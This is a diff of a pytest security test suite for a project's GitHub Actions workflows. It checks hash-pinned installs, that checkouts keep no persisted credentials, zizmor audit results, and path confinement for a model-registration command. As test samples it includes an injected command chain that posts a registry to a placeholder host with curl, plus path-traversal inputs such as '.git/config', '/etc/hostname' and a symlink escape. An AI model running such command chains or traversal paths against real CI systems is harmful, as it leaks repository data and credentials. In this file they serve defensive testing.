@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import importlib.metadata
 import re
 import shutil
 import subprocess
 import sys
+import tomllib
 from collections.abc import Iterator
 from functools import cache
 from pathlib import Path
@@ -13,8 +15,15 @@ from typing import Any
 
 import pytest
 import yaml
+from packaging.markers import default_environment
+from packaging.requirements import Requirement
+from packaging.utils import canonicalize_name
 
-WORKFLOWS = Path(__file__).parent.parent / ".github" / "workflows"
+from regops.cli import main
+from tests.conftest import git
+
+REPO = Path(__file__).parent.parent
+WORKFLOWS = REPO / ".github" / "workflows"
 NAMES = (
     "registry-check.yml",
     "registry-approvals.yml",
@@ -44,6 +53,26 @@ APPROVALS_HEAD = "${{ github.event.workflow_run.head_sha }}"
 SETUP_ACTIONS = {"actions/checkout", "actions/setup-python", "actions/create-github-app-token"}
 APP_TOKEN = "${{ steps.app-token.outputs.token }}"
 TOKEN = "${{ github.token }}"
+LOCK = REPO / ".github" / "requirements.lock"
+# Every job installs regops' dependencies and build backend from the lock, each file checked against its hash, then
+# regops itself from the checkout, fetching nothing else.
+INSTALL = (
+    "pip install --require-hashes --no-deps -r .github/requirements.lock",
+    "pip install --no-deps --no-build-isolation .",
+)
+# The steps that push (a commit to main, a pull request's branch): each holds the app token as GITHUB_TOKEN, which
+# regops gives git through its environment, since no checkout keeps credentials.
+PUSHERS = ("regops commit --push", "regops register", "regops canary check --open-pr")
+# The runners the lock is for: ubuntu-latest (x86_64 Linux) with setup-python's 3.11.
+RUNNER_MARKERS = {
+    **default_environment(),
+    **{"python_version": "3.11", "sys_platform": "linux", "platform_system": "Linux", "platform_machine": "x86_64"},
+    **{"os_name": "posix", "implementation_name": "cpython", "platform_python_implementation": "CPython"},
+}
+PIN = re.compile(r"(?P<name>[A-Za-z0-9][\w.-]*)==(?P<version>\S+?)(?: \\)?")
+HASH = re.compile(r"\s+--hash=sha256:(?P<hash>[0-9a-f]{64})(?: \\)?")
+# GitHub's default variables a script may read without an `env:` of the workflow's.
+DEFAULT_VARIABLES = {"GITHUB_WORKSPACE"}
 
 PINNED_USES = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")
 USES_LINE = re.compile(r"^\s*(?:- )?uses:\s*(?P<ref>\S+)(?P<comment>.*)$")
@@ -195,9 +224,9 @@ def test_registry_approvals_runs_main_s_code_on_the_pull_request_s_commit_id_alo
     assert checkout_choices(workflow) == []
     assert secrets(workflow) == []
     assert [(job_id, script, step.get("env")) for job_id, _, step, script in scripts(workflow)] == [
-        ("report", "pip install .", None),
+        *(("report", install, None) for install in INSTALL),
         ("report", 'regops pr report --head-sha "$HEAD_SHA"', {"HEAD_SHA": APPROVALS_HEAD, "GITHUB_TOKEN": TOKEN}),
-        ("approvals", "pip install .", None),
+        *(("approvals", install, None) for install in INSTALL),
         ("approvals", 'regops pr check --head-sha "$HEAD_SHA"', {"HEAD_SHA": APPROVALS_HEAD, "GITHUB_TOKEN": TOKEN}),
     ]
     # A merge group's status is registry-check's (its code is in the repository: the queue's own branch).
@@ -219,7 +248,7 @@ def test_event_values_reach_scripts_only_through_env_and_quoted(name: str) -> No
     assert unquoted_expansions(workflow) == []
     for job_id, job, step, script in scripts(workflow):
         defined = {**workflow.get("env", {}), **job.get("env", {}), **step.get("env", {})}
-        undefined = set(SHELL_VARIABLE.findall(script)) - set(defined)
+        undefined = set(SHELL_VARIABLE.findall(script)) - set(defined) - DEFAULT_VARIABLES
         assert not undefined, f"{name}: {job_id}: {script!r} uses {sorted(undefined)}, which no env: defines"
 
 
@@ -262,22 +291,42 @@ def test_every_step_is_a_regops_call_or_the_setup_it_needs(name: str) -> None:
             assert step["uses"].split("@")[0] in SETUP_ACTIONS, f"{name}: {job_id}: {step['uses']}"
         else:
             script = step["run"].strip()
-            assert script == "pip install ." or script.startswith("regops "), f"{name}: {job_id}: {script!r}"
+            assert script in INSTALL or script.startswith("regops "), f"{name}: {job_id}: {script!r}"
     assert shell_logic(load(name)) == []
 
 
+def persisted_credentials(workflow: dict[Any, Any]) -> list[str]:
+    """Checkouts that leave the token in .git/config (persist-credentials is true unless set to false)."""
+    return [
+        job_id
+        for job_id, _, step in steps(workflow)
+        if step.get("uses", "").startswith("actions/checkout@")
+        and step.get("with", {}).get("persist-credentials") is not False
+    ]
+
+
+def unhashed_installs(workflow: dict[Any, Any]) -> list[str]:
+    """Jobs that install anything other than the lock's files, by hash, and then regops from the checkout."""
+    found = []
+    for job_id, job in workflow["jobs"].items():
+        installs = [step["run"].strip() for step in job.get("steps", []) if "pip" in step.get("run", "")]
+        if installs != list(INSTALL):
+            found.append(f"{job_id}: {installs}")
+    return found
+
+
 @pytest.mark.parametrize("name", NAMES)
-def test_checkout_keeps_credentials_only_in_jobs_that_push_with_the_app_token(name: str) -> None:
-    for job_id, job, step in steps(load(name)):
-        if not step.get("uses", "").startswith("actions/checkout@"):
-            continue
-        keep = step["with"]["persist-credentials"]
-        assert keep in (True, False), f"{name}: {job_id}: persist-credentials must be set"
-        pushers = ("regops commit --push", "regops register", "regops canary check --open-pr")
-        pushes = any(s.get("run", "").startswith(pushers) for s in job["steps"])
-        assert keep is pushes, f"{name}: {job_id}: persist-credentials {keep}, but the job pushes: {pushes}"
-        if keep:
-            assert step["with"]["token"] == APP_TOKEN
+def test_no_checkout_keeps_credentials_and_only_the_steps_that_push_hold_the_app_token(name: str) -> None:
+    workflow = load(name)
+    assert persisted_credentials(workflow) == []
+    for job_id, _, step, script in scripts(workflow):
+        if script.startswith(PUSHERS):
+            assert step.get("env", {}).get("GITHUB_TOKEN") == APP_TOKEN, f"{name}: {job_id}: {script!r}"
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_every_job_installs_its_dependencies_by_hash_from_the_lock(name: str) -> None:
+    assert unhashed_installs(load(name)) == []
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -349,7 +398,8 @@ def test_registry_sync_runs_the_steps_in_order_and_commits_last() -> None:
     # Each command up to its first option.
     commands = [script.split(" -")[0] for _, _, _, script in scripts(load("registry-sync.yml"))]
     assert commands == [
-        "pip install .",
+        "pip install",
+        "pip install",
         "regops auto-promote",
         "regops sync",
         "regops pr stamp",
@@ -365,6 +415,7 @@ def test_register_passes_every_input_and_opens_a_pr_instead_of_committing_when_a
         assert f'{flag} "${variable}"' in script
     assert '${PARENT:+--parent "$PARENT"}' in script
     assert "${OPEN_PR:+--pr}" in script
+    assert script.endswith('--confine "$GITHUB_WORKSPACE"'), "the event's paths name files of the checkout only"
     commit = next(step for step in job["steps"] if step.get("run", "").startswith("regops commit"))
     assert commit["if"] == "env.OPEN_PR != 'true'"
 
@@ -383,6 +434,8 @@ def test_register_passes_every_input_and_opens_a_pr_instead_of_committing_when_a
         (secrets, ["jobs.build.env.HF_TOKEN"]),
         (unquoted_expansions, ["regops validate --base $BASE && curl -d @registry https://example.invalid"]),
         (shell_logic, ["regops validate --base $BASE && curl -d @registry https://example.invalid"]),
+        (persisted_credentials, ["build"]),
+        (unhashed_installs, ["build: []"]),
     ],
 )
 def test_each_check_finds_its_mistake(check: Any, found: list[str]) -> None:
@@ -402,18 +455,21 @@ def run(*command: str) -> subprocess.CompletedProcess[str]:
     return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
 
 
-def test_zizmor_finds_nothing() -> None:
-    result = run(executable("zizmor"), "--offline", "--strict-collection", str(WORKFLOWS))
+@pytest.mark.parametrize("persona", ["regular", "auditor"])
+def test_zizmor_finds_nothing(persona: str) -> None:
+    """The auditor persona reports what the regular one leaves out as likely noise (artipacked among them)."""
+    result = run(executable("zizmor"), "--offline", "--strict-collection", "--persona", persona, str(WORKFLOWS))
     assert result.returncode == 0, result.stdout + result.stderr
+    assert "No findings to report" in result.stdout, result.stdout
 
 
 def test_zizmor_flags_injection_unpinned_actions_and_dangerous_triggers(tmp_path: Path) -> None:
     workflows = tmp_path / ".github" / "workflows"
     workflows.mkdir(parents=True)
     (workflows / "bad.yml").write_text(BAD_WORKFLOW, encoding="utf-8")
-    result = run(executable("zizmor"), "--offline", "--strict-collection", str(workflows))
+    result = run(executable("zizmor"), "--offline", "--strict-collection", "--persona", "auditor", str(workflows))
     assert result.returncode != 0
-    for audit in ("template-injection", "unpinned-uses", "dangerous-triggers"):
+    for audit in ("template-injection", "unpinned-uses", "dangerous-triggers", "artipacked"):
         assert f"[{audit}]" in result.stdout, result.stdout
 
 
@@ -432,3 +488,125 @@ def test_the_schema_rejects_a_misspelt_permissions_key(tmp_path: Path) -> None:
     )
     assert result.returncode == 1
     assert "'permission' was unexpected" in result.stdout, result.stdout
+
+
+def locked(text: str) -> dict[str, tuple[str, list[str]]]:
+    """The lock's pins: normalized name → (version, its sha256 hashes). Any other line than a pin, a hash or a
+    comment fails: pip would read it as a requirement too."""
+    pins: dict[str, tuple[str, list[str]]] = {}
+    name = None
+    for line in text.splitlines():
+        if pin := PIN.fullmatch(line):
+            name = canonicalize_name(pin["name"])
+            pins[name] = (pin["version"], [])
+        elif (found := HASH.fullmatch(line)) and name is not None:
+            pins[name][1].append(found["hash"])
+        elif line.strip() and not line.lstrip().startswith("#"):
+            raise AssertionError(f"{LOCK.name}: not a pin, a hash or a comment: {line!r}")
+    return pins
+
+
+def project_requirements() -> list[Requirement]:
+    """What regops needs to be built and run: [project].dependencies and [build-system].requires."""
+    pyproject = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
+    texts = [*pyproject["project"]["dependencies"], *pyproject["build-system"]["requires"]]
+    return [Requirement(text) for text in texts]
+
+
+def closure(roots: list[Requirement]) -> dict[str, list[Requirement]]:
+    """Every distribution ``roots`` pull in on the runners, with each requirement naming it, read from the metadata
+    of this environment's installed distributions."""
+    needed: dict[str, list[Requirement]] = {}
+    todo, done = list(roots), set()
+    while todo:
+        requirement = todo.pop()
+        name = canonicalize_name(requirement.name)
+        needed.setdefault(name, []).append(requirement)
+        if (name, frozenset(requirement.extras)) in done:
+            continue
+        done.add((name, frozenset(requirement.extras)))
+        for text in importlib.metadata.distribution(name).requires or []:
+            dependency = Requirement(text)
+            extras = requirement.extras or {""}
+            if dependency.marker is None or any(
+                dependency.marker.evaluate({**RUNNER_MARKERS, "extra": e}) for e in extras
+            ):
+                todo.append(dependency)
+    return needed
+
+
+def test_the_lock_pins_every_file_by_hash_and_satisfies_pyproject() -> None:
+    pins = locked(LOCK.read_text(encoding="utf-8"))
+    assert [name for name, (_, hashes) in pins.items() if not hashes] == []
+    for requirement in project_requirements():
+        name = canonicalize_name(requirement.name)
+        assert name in pins, (
+            f"{requirement} (pyproject.toml) is not in {LOCK.name}: regenerate it (its header says how)"
+        )
+        assert requirement.specifier.contains(pins[name][0], prereleases=True), f"{requirement}: {pins[name][0]}"
+
+
+def test_the_lock_is_the_whole_closure_of_pyproject_s_requirements_and_nothing_else() -> None:
+    """Read from this environment, which the README's test command installs from the lock first: each locked version
+    is installed, and what those versions require on the runners is what the lock pins, in versions it allows."""
+    pins = locked(LOCK.read_text(encoding="utf-8"))
+    for name, (version, _) in pins.items():
+        have = importlib.metadata.version(name)
+        assert have == version, (
+            f"this environment has {name} {have}, the lock {version}: install the lock first "
+            "(pip install --require-hashes -r .github/requirements.lock), as the README's test command does"
+        )
+    needed = closure(project_requirements())
+    assert sorted(needed) == sorted(pins), f"regenerate {LOCK.name}: its header says how"
+    for name, requirements in needed.items():
+        for requirement in requirements:
+            assert requirement.specifier.contains(pins[name][0], prereleases=True), f"{requirement}: {pins[name][0]}"
+
+
+def test_the_lock_check_finds_a_missing_hash_a_stray_line_and_a_missing_dependency() -> None:
+    text = LOCK.read_text(encoding="utf-8")
+    unhashed = re.sub(r"(?m)^(pydantic==\S+) \\\n(\s+--hash=\S+ \\\n)*\s+--hash=\S+$", r"\1", text)
+    assert locked(unhashed)["pydantic"][1] == []
+    with pytest.raises(AssertionError, match="not a pin, a hash or a comment"):
+        locked(text + "--index-url https://example.invalid/simple\n")
+    without_core = {name: pin for name, pin in locked(text).items() if name != "pydantic-core"}
+    assert "pydantic-core" in set(closure(project_requirements())) - set(without_core)
+
+
+def test_register_confined_to_the_checkout_refuses_paths_outside_it_or_in_git_and_changes_nothing(
+    history_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """register.yml's `--confine "$GITHUB_WORKSPACE"`: the dispatch's paths, resolved with symlinks followed, must
+    name files of the checkout and none of its .git (whose config may hold a credential)."""
+    repo = history_repo
+    run = repo / "training"
+    (run / "weights").mkdir(parents=True)
+    (run / "weights" / "model.safetensors").write_bytes(b"weights" * 1000)
+    (run / "evals.json").write_text('{"accuracy": 0.94, "latency_ms": 40}')
+    (run / "params.json").write_text('{"epochs": 3}')
+    (repo / "escape").symlink_to(tmp_path / "out-1.0.0")
+    head = git(repo, "rev-parse", "HEAD")
+
+    def register(artifacts: str, evals: str = "training/evals.json", params: str = "training/params.json") -> int:
+        paths = ["--artifacts", artifacts, "--evals", evals, "--params", params]
+        common = ["--dataset", "reviews@2025-09-08", "--version", "1.2.0", "--by", "training-bot[bot]"]
+        return main(["register", "sentiment", *paths, *common, "--confine", str(repo)])
+
+    refused = {
+        str(tmp_path / "out-1.0.0"): f"resolves to {tmp_path / 'out-1.0.0'}, outside {repo} (--confine)",
+        "../out-1.0.0": f"resolves to {tmp_path / 'out-1.0.0'}, outside {repo} (--confine)",
+        "escape": f"resolves to {tmp_path / 'out-1.0.0'}, outside {repo} (--confine)",
+        ".git": f"resolves to {repo / '.git'}, in a .git folder",
+        "training/../.git/refs": f"resolves to {repo / '.git' / 'refs'}, in a .git folder",
+    }
+    for artifacts, said in refused.items():
+        assert register(artifacts) == 1, artifacts
+        assert f"--artifacts {artifacts} {said}" in capsys.readouterr().err
+    assert register("training/weights", evals=".git/config") == 1
+    assert f"--evals .git/config resolves to {repo / '.git' / 'config'}, in a .git folder" in capsys.readouterr().err
+    assert register("training/weights", params="/etc/hostname") == 1
+    assert "--params /etc/hostname resolves to /etc/hostname, outside" in capsys.readouterr().err
+    assert (git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain", "registry")) == (head, "")
+
+    assert register("training/weights") == 0, capsys.readouterr()
+    assert (repo / "registry/models/sentiment/1.2.0.yaml").exists()
